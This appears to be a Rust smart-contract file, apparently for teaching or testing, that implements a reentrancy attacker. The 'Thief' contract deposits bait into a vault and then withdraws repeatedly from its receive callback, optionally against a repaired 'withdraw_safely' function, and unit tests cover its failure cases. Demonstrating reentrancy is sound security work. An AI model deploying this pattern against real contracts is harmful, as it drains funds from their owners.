//! Robs the vault: brings a little coin, takes it back, and takes it again while it is being paid.

#![cfg_attr(target_arch = "riscv32", no_std, no_main)]

#[rustfmt::skip]
mod vault;

use clibc::prelude::*;

/// A contract that asks again before it has been told no.
#[contract]
mod thief {
    use super::*;
    use crate::vault::{Client, VaultError};
    use clibc::client::CallError;

    #[storage]
    pub struct Thief {
        vault: Item<Address>,
        /// Whether to try the vault's repaired function.
        safely: Item<bool>,
        /// How often to ask again.
        rounds: Item<u32>,
    }

    /// The vault said no.
    #[derive(Event)]
    pub struct Caught {
        pub rounds_left: u32,
    }

    #[derive(ContractError, Debug, PartialEq)]
    pub enum Failed {
        #[message("the vault did not take the bait")]
        NoBait,
        #[message("the vault pays nothing")]
        NoPay,
    }

    impl Thief {
        /// Brings the coin that comes along to `vault`, and takes it back `rounds` times more than it may.
        #[payable]
        pub fn rob(&mut self, vault: Address, rounds: u32, safely: bool) -> Result<(), Failed> {
            self.vault.set(vault);
            self.rounds.set(rounds);
            self.safely.set(safely);
            let bait = Client::at(vault).with_value(context::value());
            bait.deposit().map_err(|_| Failed::NoBait)?;
            self.withdraw().map_err(|_| Failed::NoPay)?;
            Ok(())
        }

        /// Called by the vault in the middle of a withdrawal, with the coin: the moment to ask again.
        #[payable]
        pub fn receive(&mut self) {
            let rounds = self.rounds.or_default();
            if rounds == 0 {
                return;
            }
            self.rounds.set(rounds - 1);
            if self.withdraw().is_err() {
                emit(Caught {
                    rounds_left: rounds - 1,
                });
            }
        }

        fn withdraw(&self) -> Result<u128, CallError<VaultError>> {
            let vault = Client::at(self.vault.load());
            if self.safely.or_default() {
                vault.withdraw_safely()
            } else {
                vault.withdraw()
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::thief::*;
    use clibc::{contract::Outcome, host, prelude::*};

    const VAULT: Address = Address([0x7a; 20]);

    #[test]
    fn fails_where_there_is_no_vault() {
        host::reset();
        host::set_caller(Address([1; 20]));
        host::set_value(10);
        let mut thief = Thief::default();
        assert_eq!(thief.rob(VAULT, 1, false), Err(Failed::NoBait));
    }

    #[test]
    fn is_caught_by_a_vault_that_refuses() {
        host::reset();
        host::set_caller(VAULT);
        let mut thief = Thief::default();
        host::set_contract(VAULT, |input| {
            // Of `deposit`.
            if input.starts_with(&[0x48, 0xc7, 0x3f, 0x68]) {
                return Outcome::Returned(vec![]);
            }
            let (code, data) = (1, vec![]);
            Outcome::Reverted { code, data }
        });
        assert_eq!(thief.rob(VAULT, 1, true), Err(Failed::NoPay));
        thief.receive();
        assert_eq!(host::events().len(), 1);
    }
}
